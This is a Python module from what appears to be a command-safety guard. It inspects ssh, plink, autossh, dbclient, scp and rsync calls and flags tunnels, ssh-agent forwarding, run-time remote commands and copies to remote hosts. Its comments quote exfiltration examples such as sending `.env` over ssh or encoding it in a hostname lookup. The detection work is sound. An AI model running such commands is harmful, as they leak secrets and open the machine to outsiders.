"""What ssh and its relatives do: the command run on the other host (judged as if here),
forwards and tunnels that expose a port, agent forwarding, and remote copies.
"""

from __future__ import annotations

import posixpath
import re

from clawkeep.guards.command_guard._net_deploy import own_deploy
from clawkeep.guards.command_guard._net_reach import REMOTE, egress, loopback_only, runtime_payload
from clawkeep.guards.command_guard._walk import Cmd, Walker
from clawkeep.guards.command_guard._word_types import UNKNOWN, Arg

__all__ = ["copy_remote", "run_time_host", "ssh"]


def run_time_host(dest: str) -> bool:
    """A copy's destination whose host part (before the first ``:``, no ``/`` before it) is
    a value known only at run time, or that is such a value as a whole."""
    host, colon, _ = dest.partition(":")
    return UNKNOWN in host and "/" not in host and (bool(colon) or host == UNKNOWN)


def ssh(cmd: Cmd, w: Walker) -> None:
    values = cmd.values()
    if set(values) <= {"-V", "-h"}:
        return
    if runtime_payload(cmd, w):
        return  # ssh "$(cat .env).x.example": the host name carries the data in its lookup
    if _opens_tunnel(values):
        w.flag("tunnel", f"{cmd.name} opens a tunnel or proxy into this machine")
        return
    if _forwards_agent(values):
        # credential_read: the remote host may sign with every key in ssh-agent meanwhile
        w.flag("credential_read", f"{cmd.name} lends the keys in ssh-agent to the remote host")
        return
    if cmd.name.startswith("plink") and any(v in ("-m", "-proxycmd") for v in values):
        # dynamic_command: plink -m reads the remote command from a file, -proxycmd runs one
        w.flag("dynamic_command", f"{cmd.name} runs a command read from a file or option")
        return
    remote = _remote_args(cmd) if cmd.name != "sftp" else []
    from_file = [r for r in cmd.redirects if r.op == "<" and r.target is not None]
    if not remote and any(r.target.text != "/dev/null" for r in from_file if r.target):
        # exfiltration: `ssh host < .env` hands the file to the remote login shell
        w.flag("exfiltration", f"{cmd.name} sends a local file to a remote host")
        return
    if remote and _stdin_fed(cmd):
        # exfiltration: local bytes piped or redirected into a command on another host
        w.flag("exfiltration", "ssh hands local data to a command on a remote host")
        return
    if remote and not all(a.static for a in remote):
        # dynamic_command: the remote shell re-parses the words, so a value known only at
        # run time can be any command there (as with bash -c "ls $DIR")
        w.flag("dynamic_command", "ssh runs a remote command known only at run time")
    elif remote:
        # ssh joins the words with spaces and the remote shell parses them: judge that line
        # as if it ran here (a delete of /, a credential read, a download run stay refused)
        w.script(" ".join(a.text for a in remote), "ssh remote command")
    egress(cmd, w)


_SSH_VALUE = frozenset("bcDEeFIiJLlmOopQRSWw")
_LOOPBACK_BIND = re.compile(r"^(localhost|127\.[\d.]+|\[::1\]|::1)$")


def _bind_exposed(forward: str) -> bool:
    """A -L forward ``BIND:PORT:HOST:HOSTPORT`` whose bind address is not loopback."""
    if forward.startswith("["):
        bind = forward[: forward.find("]") + 1]
    else:
        fields = forward.split(":")
        if len(fields) < 4:
            return False  # PORT:HOST:HOSTPORT binds loopback (without -g)
        bind = fields[0]
    return not _LOOPBACK_BIND.match(bind)


def _opens_tunnel(values: list[str]) -> bool:
    """-R / -D in any cluster (`-fNR`), their -o spellings (RemoteForward, DynamicForward),
    and a local forward other machines can reach (-g, GatewayPorts, a non-loopback bind)."""
    gateway = False
    local: list[str] = []
    index = 0
    while index < len(values):
        value = values[index]
        index += 1
        if not value.startswith("-") or value.startswith("--") or value == "-":
            continue
        letters = value[1:]
        for position, letter in enumerate(letters):
            if letter in "RD":
                return True
            gateway |= letter == "g"
            if letter in _SSH_VALUE:
                given = letters[position + 1 :]
                if not given and index < len(values):
                    given, index = values[index], index + 1
                if letter == "L":
                    local.append(given)
                elif letter == "o":
                    parts = re.match(r"^\s*(\w+)\s*[=\s]\s*(.*)$", given)
                    key, setting = (parts.group(1).lower(), parts.group(2)) if parts else ("", "")
                    if key in ("remoteforward", "dynamicforward"):
                        return True
                    if key == "gatewayports" and setting.strip().lower() in ("yes", "true"):
                        gateway = True
                    if key == "localforward":
                        local.append(re.sub(r"\s+", ":", setting.strip(), count=1))
                break
    return bool(local) and (gateway or any(_bind_exposed(f) for f in local))


def _forwards_agent(values: list[str]) -> bool:
    """``-A`` (alone or among other letter flags) or ``-o ForwardAgent=yes``."""
    for index, value in enumerate(values):
        option = value[2:] if value.startswith("-o") and len(value) > 2 else None
        if value == "-o" and index + 1 < len(values):
            option = values[index + 1]
        if option is not None:
            key, _, setting = option.replace(" ", "=", 1).partition("=")
            if key.lower() == "forwardagent" and setting.strip().lower() not in ("no", ""):
                return True
            continue
        letters = value[1:] if value.startswith("-") and not value.startswith("--") else ""
        for letter in letters:
            if letter == "A":
                return True
            if letter in _SSH_VALUE:
                break  # the rest of this word is that option's value
    return False


def _skip_options(values: list[str], index: int) -> int:
    """The index past ssh's options (and a ``--``) from ``index`` on."""
    while index < len(values) and values[index].startswith("-") and values[index] != "--":
        letters = values[index][1:]
        index += 1
        for position, letter in enumerate(letters):
            if letter in _SSH_VALUE:
                if position == len(letters) - 1:
                    index += 1  # -p 2222, -tp 2222: the next word is the value
                break
    if index < len(values) and values[index] == "--":
        index += 1
    return index


# plink's options are words (-pw, -batch); these take a value. autossh takes -M PORT
# before ssh's own options; dropbear's dbclient takes these letters with a value.
_PLINK_VALUE = frozenset(
    {"-P", "-l", "-i", "-pw", "-pwfile", "-L", "-R", "-D", "-m", "-hostkey", "-proxycmd"}
    | {"-sercfg", "-sshlog", "-sshrawlog", "-load", "-o", "-J"}
)
_DBCLIENT_VALUE = frozenset("pliLRWJcmbKIoBy")


def _skip_plink(values: list[str]) -> int:
    index = 0
    while index < len(values) and values[index].startswith("-"):
        index += 2 if values[index] in _PLINK_VALUE else 1
    return index


def _remote_args(cmd: Cmd) -> list[Arg]:
    """The words ssh (or a relative: plink, autossh, dbclient) runs on the remote host,
    after the options and the destination.

    OpenSSH reads options after the destination too (``ssh host -t 'cmd'``).
    """
    values = cmd.values()
    if cmd.name.startswith("plink"):
        return cmd.args[_skip_plink(values) + 1 :]
    if cmd.name == "autossh":
        # -M PORT (or -M0) is autossh's own; the rest is ssh's argv
        kept = [i for i, v in enumerate(values) if v != "-M" and not v.startswith("-M")]
        kept = [i for i in kept if i == 0 or values[i - 1] != "-M"]
        args = [cmd.args[i] for i in kept]
        own = [values[i] for i in kept]
        index = _skip_options(own, 0)
        return args[_skip_options(own, index + 1) :]
    if cmd.name == "dbclient":
        index = 0
        while index < len(values) and values[index].startswith("-"):
            letters = values[index][1:]
            index += 1
            if letters and letters[-1] in _DBCLIENT_VALUE and letters[-1] not in "y":
                index += 1
        return cmd.args[index + 1 :]
    index = _skip_options(values, 0)
    return cmd.args[_skip_options(values, index + 1) :]


def _stdin_fed(cmd: Cmd) -> bool:
    if cmd.stdin is not None:
        return True
    return any(
        r.op in ("<", "<<", "<<<") and (r.target is None or r.target.text != "/dev/null")
        for r in cmd.redirects
    )


def copy_remote(cmd: Cmd, w: Walker) -> None:
    values = [v for v in cmd.values() if not v.startswith("-")]
    remote = [v for v in values if REMOTE.match(v)]
    if len(values) > 1 and run_time_host(values[-1]):
        # exfiltration: `rsync -a dist/ "$U":/srv/`, a host only the run knows may be anyone's
        w.flag("exfiltration", f"{cmd.name} copies local files to a host known only at run time")
        return
    if not remote:
        return
    if REMOTE.match(values[-1]) and not loopback_only([values[-1]]):
        if own_deploy(cmd, w):
            egress(cmd, w)  # the workspace deployed to a host of the owner's own network
            return
        w.flag("exfiltration", f"{cmd.name} copies local files to {values[-1]}")
        return
    # a fetched file is a download: running it later on this line is download-and-run
    dest = values[-1].rstrip("/")
    fetched = [posixpath.basename(v.rstrip("/").split(":", 1)[-1]) for v in remote]
    w.downloaded.update(fetched if values[-1].endswith("/") or dest in (".", "") else [])
    w.downloaded.add(posixpath.basename(dest))
    egress(cmd, w)
